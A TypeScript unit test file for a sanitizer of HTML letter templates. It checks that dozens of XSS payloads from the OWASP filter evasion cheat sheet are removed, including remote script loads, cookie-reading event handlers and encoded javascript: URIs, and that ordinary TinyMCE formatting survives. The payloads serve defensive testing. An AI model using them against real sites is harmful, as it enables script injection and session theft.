import { describe, expect, it } from 'vitest';
import { LETTER_PAGE_BREAK_HTML, letterVariableToken } from '@praktijk/shared/letter-markup';
import { sanitizeLetterHtml } from './sanitize';

// The stored letter HTML (issue 24): payloads of the OWASP XSS filter evasion cheat sheet come out
// harmless, and what TinyMCE 8 writes for a letter comes through with its meaning.

/** Nothing that runs, loads or navigates survives: checked on the output as a browser would read it. */
function expectHarmless(html: string): void {
  const lower = html.toLowerCase();
  expect(lower).not.toMatch(/<\s*(script|iframe|object|embed|svg|math|form|input|meta|link|base|style|frame|frameset|video|audio|body|xml|template)\b/);
  expect(lower).not.toMatch(/\son[a-z]+\s*=/);
  expect(lower).not.toMatch(/(java|vb|live)script\s*:/);
  expect(lower).not.toMatch(/data\s*:\s*(text|application|image\/svg)/);
  expect(lower).not.toMatch(/expression\s*\(|url\s*\(|@import|behavior\s*:|-moz-binding/);
  expect(lower).not.toMatch(/\s(id|srcdoc|formaction|xlink:href|background|dynsrc|lowsrc)\s*=/);
}

const OWASP_PAYLOADS = [
  '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  `<IMG SRC="javascript:alert('XSS');">`,
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#000011' +
    '2&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083' +
    '&#0000083&#0000039&#0000041">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>',
  '<a href="jav\tascript:alert(\'XSS\');">x</a>',
  '<a href="jav&#x09;ascript:alert(\'XSS\');">x</a>',
  '<a href="jav&#x0A;ascript:alert(\'XSS\');">x</a>',
  '<a href=" &#14;  javascript:alert(\'XSS\');">x</a>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert("XSS")>',
  '<svg><script>alert(1)</script></svg>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<span style="width: expression(alert(\'XSS\'));">x</span>',
  '<p style="background-image: url(javascript:alert(1))">x</p>',
  '<p style="color: red; background: url(http://evil.example/x.png)">x</p>',
  '<p style="behavior: url(xss.htc)">x</p>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td>x</td></tr></TABLE>',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TABLE>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0' +
    '069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029"' +
    '>x</DIV>',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4b' +
    'Wxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5' +
    'rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cG' +
    'U9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" AllowScriptAccess="always"></EM' +
    'BED>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="https://tracker.example/pixel.png">',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="inn' +
    'erHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
  '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="main" class="evil">x</p>',
  '<a href="//evil.example/">protocol-relative</a>',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
];

describe('sanitizeLetterHtml', () => {
  it('has at least 20 OWASP cheat sheet payloads to try', () => {
    expect(OWASP_PAYLOADS.length).toBeGreaterThanOrEqual(20);
  });

  it.each(OWASP_PAYLOADS)('leaves nothing that runs or loads of %s', (payload) => {
    const out = sanitizeLetterHtml(payload);
    expectHarmless(out);
    // Sanitising is stable: what is stored passes again unchanged.
    expect(sanitizeLetterHtml(out)).toBe(out);
  });

  it('drops a script with its text and keeps the letter text around it', () => {
    expect(sanitizeLetterHtml('<p>Geachte collega,</p><script>alert(1)</script><p>Met vriendelijke groet</p>')).toBe(
      '<p>Geachte collega,</p><p>Met vriendelijke groet</p>',
    );
  });

  it('keeps links of http, https and mailto only, and no other classes or ids', () => {
    expect(sanitizeLetterHtml('<a href="https://example.org/a">a</a><a href="mailto:dr@example.org">m</a><a href="ftp://x/y">f</a>')).toBe(
      '<a href="https://example.org/a">a</a><a href="mailto:dr@example.org">m</a><a>f</a>',
    );
    expect(sanitizeLetterHtml('<a href="https://example.org" target="_blank">a</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">a</a>',
    );
    expect(sanitizeLetterHtml('<span class="praktijk-variable other" id="x">t</span>')).toBe('<span class="praktijk-variable">t</span>');
  });

  it('keeps inline PNG, JPEG and GIF images and drops any other', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    expect(sanitizeLetterHtml(`<img src="${png}" alt="logo" width="120">`)).toBe(`<img src="${png}" alt="logo" width="120" />`);
    expect(sanitizeLetterHtml('<p>a<img src="https://example.org/logo.png" alt="logo">b</p>')).toBe('<p>ab</p>');
    expect(sanitizeLetterHtml('<img src="data:image/webp;base64,AAAA">')).toBe('');
  });
});

describe('what TinyMCE writes for a letter', () => {
  it('keeps colours, alignment, line height and font formatting', () => {
    const html =
      '<h2 style="text-align: center;">Verwijsbrief</h2>' +
      '<p style="text-align: right; line-height: 2;"><span style="color: rgb(224, 62, 45);">Rood</span> en ' +
      '<span style="background-color: #fbeeb8;">geel</span> ĳ ë €</p>' +
      '<p><strong>vet</strong> <em>schuin</em> <span style="text-decoration: underline;">onder</span> <span' +
      ' style="font-size: 14pt; font-family: Arial, Helvetica, sans-serif;">groot</span></p>' +
      '<ol style="list-style-type: lower-alpha;"><li>een</li></ol><p style="padding-left: 40px;">ingesprongen</p>';
    const out = sanitizeLetterHtml(html);
    for (const kept of [
      'text-align:center',
      'text-align:right',
      'line-height:2',
      'color:rgb(224, 62, 45)',
      'background-color:#fbeeb8',
      'text-decoration:underline',
      'font-size:14pt',
      'font-family:Arial, Helvetica, sans-serif',
      'list-style-type:lower-alpha',
      'padding-left:40px',
      '<strong>vet</strong>',
      '<em>schuin</em>',
      'ĳ ë €',
    ])
      expect(out).toContain(kept);
  });

  it('keeps a table with its column widths, borders and shaded cells', () => {
    const html =
      '<table style="border-collapse: collapse; width: 100%;" border="1"><colgroup><col style="width: 30%;"><col style="width: 70%;"></colgroup>' +
      '<tbody><tr><td style="background-color: #ecf0f1; border: 1px solid #000000;">Naam</td><td colspan="1" rowspan="1">Ramdin</td></tr></tbody></table>';
    const out = sanitizeLetterHtml(html);
    expect(out).toContain('<table style="border-collapse:collapse;width:100%" border="1">');
    expect(out).toContain('<colgroup><col style="width:30%" /><col style="width:70%" /></colgroup>');
    expect(out).toContain('<td style="background-color:#ecf0f1;border:1px solid #000000">Naam</td>');
    expect(out).toContain('<td colspan="1" rowspan="1">Ramdin</td>');
  });

  it('keeps the page break and the variable tokens as letter-markup writes them', () => {
    const html = `<p>Beste ${letterVariableToken('full_name')},</p>${LETTER_PAGE_BREAK_HTML}<div>${letterVariableToken('soep')}</div>`;
    const out = sanitizeLetterHtml(html);
    expect(out).toContain('<span class="praktijk-variable" data-variable="full_name" contenteditable="false">{full_name}</span>');
    expect(out).toContain('<div class="praktijk-page-break" style="page-break-after:always"></div>');
    expect(out).toContain('data-variable="soep"');
  });

  it('drops a variable name that is not one and a contenteditable other than false', () => {
    expect(sanitizeLetterHtml('<span class="praktijk-variable" data-variable="x&quot; onclick=&quot;y" contenteditable="true">t</span>')).toBe(
      '<span class="praktijk-variable">t</span>',
    );
  });
});
